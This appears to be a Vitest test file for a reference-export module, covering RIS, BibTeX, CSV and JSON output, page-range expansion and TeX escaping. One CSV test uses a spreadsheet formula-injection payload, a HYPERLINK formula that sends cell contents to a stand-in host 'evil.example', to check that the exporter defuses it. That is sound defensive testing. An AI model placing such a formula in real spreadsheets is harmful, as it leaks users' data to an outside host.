// The export formats as reference managers read them, and read back by this project's own importer.
import { describe, expect, it } from 'vitest';
import type { Candidate } from '../../src/db/queries/candidates.js';
import { renderBibtex } from '../../src/exports/bibtex.js';
import { renderCsv } from '../../src/exports/csv.js';
import { EXPORT_FORMATS, exportChunks, renderExport } from '../../src/exports/index.js';
import { pageSpan } from '../../src/exports/pages.js';
import { renderRis } from '../../src/exports/ris.js';
import { readRecords } from '../../src/imports/readers/index.js';

const work = (over: Partial<Candidate> = {}): Candidate => ({
  id: 7,
  title: 'Peer-delivered naloxone & overdose response: 50% of sites_in_study',
  authors: [{ family: 'Mercer', initials: 'F', given: 'Fiona' }, { family: 'Peer Network Study Group', collective: true }],
  year: 2021,
  journal: 'Int J Drug Policy',
  volume: '80',
  issue: '3',
  pages: '1116-22',
  doi: '10.1016/j.drugpo.2020.102700',
  pmid: '32535501',
  pmcid: null,
  abstract: 'Background: a line\nand another.',
  issn: ['1873-4758'],
  kind: null,
  sources: ['pubmed', 'europepmc'],
  status: 'pending',
  origin: 'candidate',
  firstSeen: new Date('2026-01-01T00:00:00Z'),
  exclusionReasons: [],
  ...over,
});

describe('pageSpan', () => {
  it('writes an abbreviated last page out in full and keeps other page forms', () => {
    expect(pageSpan('1116-22')).toEqual({ first: '1116', last: '1122' });
    expect(pageSpan('217–64')).toEqual({ first: '217', last: '264' });
    expect(pageSpan('2243-5; author reply 2243-5')).toEqual({ first: '2243', last: '2245' });
    expect(pageSpan('S12-S15')).toEqual({ first: 'S12', last: 'S15' });
    expect(pageSpan('e102700')).toEqual({ first: 'e102700' });
    expect(pageSpan('e123-e130')).toEqual({ first: 'e123', last: 'e130' });
    expect(pageSpan('xii-xiv')).toEqual({ first: 'xii', last: 'xiv' });
    expect(pageSpan('1234.e1-1234.e5')).toEqual({ first: '1234.e1', last: '1234.e5' });
    // An Elsevier article id is not a range from S0002 to 9165(25)00279-5.
    expect(pageSpan('S0002-9165(25)00279-5')).toEqual({ first: 'S0002-9165(25)00279-5' });
    expect(pageSpan('  ')).toBeUndefined();
  });
});

describe('RIS export', () => {
  it('reads back through the RIS importer with the same bibliographic fields', () => {
    const ris = renderRis([work(), work({ id: 8, title: 'Second', pages: null, doi: null, pmid: null, pmcid: 'PMC12175493' })]);
    expect(ris).toContain('T2  - Int J Drug Policy\r\n');
    expect(ris).toContain('SP  - 1116\r\nEP  - 1122\r\n');
    const [a, b] = readRecords('export.ris', ris, { source: 'export' });
    expect(a).toMatchObject({
      sourceId: '7',
      title: work().title,
      year: 2021,
      journal: 'Int J Drug Policy',
      volume: '80',
      issue: '3',
      pages: '1116-1122',
      doi: '10.1016/j.drugpo.2020.102700',
      pmid: '32535501',
      abstract: 'Background: a line and another.',
    });
    expect(a!.authors).toEqual([{ family: 'Mercer', initials: 'F', given: 'Fiona' }, { family: 'Peer Network Study Group', collective: true }]);
    expect(b).toMatchObject({ sourceId: '8', title: 'Second' });
    expect(b!.pmid).toBeUndefined();
    // A PMC-only record keeps its one identifier.
    expect(b!.pmcid).toBe('PMC12175493');
  });

  it('gives a book, a chapter and a preprint their own RIS types, and every ISSN, so a re-import matches them', () => {
    const ris = renderRis([
      work({ kind: 'book', title: 'Harm reduction handbook', journal: null, doi: null, pmid: null, issn: [] }),
      work({ id: 8, kind: 'book-chapter', title: 'Peer work', journal: 'Harm reduction handbook', doi: null, pmid: null }),
      work({ id: 9, kind: 'preprint', journal: 'medRxiv', issn: ['1873-4758', '0955-3959'] }),
    ]);
    const [book, chapter, preprint] = ris.split('ER  - \r\n').map((r) => r.trim());
    expect(book).toMatch(/^TY {2}- BOOK\r\n/);
    expect(chapter).toMatch(/^TY {2}- CHAP\r\n/);
    expect(chapter).toContain('T2  - Harm reduction handbook\r\n');
    expect(chapter).not.toContain('JO  - ');
    expect(preprint).toMatch(/^TY {2}- JOUR\r\n/);
    expect(preprint).toContain('SN  - 1873-4758\r\nSN  - 0955-3959\r\n');
    const [b, c, p] = readRecords('export.ris', ris, { source: 'export' });
    expect([b!.kind, c!.kind, p!.kind ?? 'article']).toEqual(['book', 'book-chapter', 'article']);
    expect(p!.issn).toEqual(['1873-4758', '0955-3959']);
  });

  it('reads an abstract a RIS writer wrapped over unindented lines', () => {
    const ris = 'TY  - JOUR\r\nTI  - Wrapped\r\nAB  - Line one of abstract.\r\nLine two of abstract.\r\n\r\nLine three, among people living with\r\nHIV - positive status was common.\r\nER  - \r\n';
    expect(readRecords('w.ris', ris, { source: 'export' })[0]!.abstract).toBe('Line one of abstract. Line two of abstract. Line three, among people living with HIV - positive status was common.');
  });
});

describe('BibTeX export', () => {
  it('escapes TeX specials, braces a group author and gives pages as a full range', () => {
    const bib = renderBibtex([work()]);
    expect(bib).toMatch(/^@article\{Mercer2021lr7,\n/);
    expect(renderBibtex([work({ authors: [{ family: 'Müller', initials: 'K' }] })])).toMatch(/^@article\{Muller2021lr7,\n/);
    expect(bib).toContain('  title = {{Peer-delivered naloxone \\& overdose response: 50\\% of sites\\_in\\_study}},\n');
    expect(bib).toContain('  author = {Mercer, Fiona and {Peer Network Study Group}},\n');
    expect(bib).toContain('  pages = {1116--1122},\n');
    expect(bib).toContain('  doi = {10.1016/j.drugpo.2020.102700},\n');
    // A DOI is verbatim to biblatex and hyperref: escaped, it would print its backslashes.
    expect(renderBibtex([work({ doi: '10.1186/s12954-022-abc_#1' })])).toContain('  doi = {10.1186/s12954-022-abc_#1},\n');
    // A name with no given part is one name too, not "Hand-Made Fixture" + "Consortium".
    expect(renderBibtex([work({ authors: [{ family: 'Hand-Made Fixture Consortium' }] })])).toContain('  author = {{Hand-Made Fixture Consortium}},\n');
    const odd = renderBibtex([work({ title: 'C:\\path {x} ~50 mg^2' })]);
    expect(odd).toContain('  title = {{C:\\textbackslash{}path \\{x\\} \\textasciitilde{}50 mg\\textasciicircum{}2}},\n');
    const lt = renderBibtex([work({ abstract: 'age < 40, p > 0.05', pmcid: 'PMC1' })]);
    expect(lt).toContain('  abstract = {age \\textless{} 40, p \\textgreater{} 0.05},\n');
    expect(lt).toContain('  pmcid = {PMC1},\n');
  });

  it('writes a chapter as an incollection in its book, a preprint as misc on its server, and the ISSNs', () => {
    expect(renderBibtex([work({ kind: 'book-chapter', journal: 'Harm reduction handbook' })])).toMatch(/^@incollection\{[\s\S]*  booktitle = \{Harm reduction handbook\},\n/);
    const preprint = renderBibtex([work({ kind: 'preprint', journal: 'medRxiv' })]);
    expect(preprint).toMatch(/^@misc\{/);
    expect(preprint).toContain('  howpublished = {medRxiv},\n');
    expect(preprint).not.toContain('journal = ');
    expect(renderBibtex([work()])).toContain('  issn = {1873-4758},\n');
  });
});

describe('CSV export', () => {
  it('defuses cells a spreadsheet would run as formulas, and leaves numbers and plain text alone', async () => {
    const { parse } = await import('csv-parse/sync');
    const csv = renderCsv([
      work({ title: '=HYPERLINK("http://evil.example/?x="&A1,"click")', journal: '@Journal', pages: '-3', authors: [{ family: '+Plus', initials: 'A' }] }),
      work({ id: 9, title: '-2+3 cmd', journal: 'Int J Drug Policy' }),
    ]);
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => [r.title, r.journal, r.authors, r.pages])).toEqual([
      ['\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'@Journal", "'+Plus A", '-3'],
      ["'-2+3 cmd", 'Int J Drug Policy', 'Mercer F; Peer Network Study Group', '1116-22'],
    ]);
  });
});

describe('exports a page at a time', () => {
  it('writes exactly what one rendering of every work writes, for every format and any paging', async () => {
    const all = [work(), work({ id: 8, title: 'Second' }), work({ id: 9, title: 'Third', pmcid: 'PMC9' })];
    async function* pages(sizes: number[]) {
      let i = 0;
      for (const n of sizes) yield all.slice(i, (i += n));
    }
    for (const format of EXPORT_FORMATS) {
      for (const sizes of [[3], [1, 2], [1, 1, 1]]) {
        let text = '';
        for await (const chunk of exportChunks(format, pages(sizes))) text += chunk;
        expect(text, `${format} ${sizes}`).toBe(renderExport(format, all));
      }
      let none = '';
      for await (const chunk of exportChunks(format, pages([]))) none += chunk;
      expect(none).toBe(renderExport(format, []));
    }
    expect(renderExport('json', all)).toBe(JSON.stringify(all, null, 2) + '\n');
    expect(renderExport('json', [])).toBe('[]\n');
  });
});
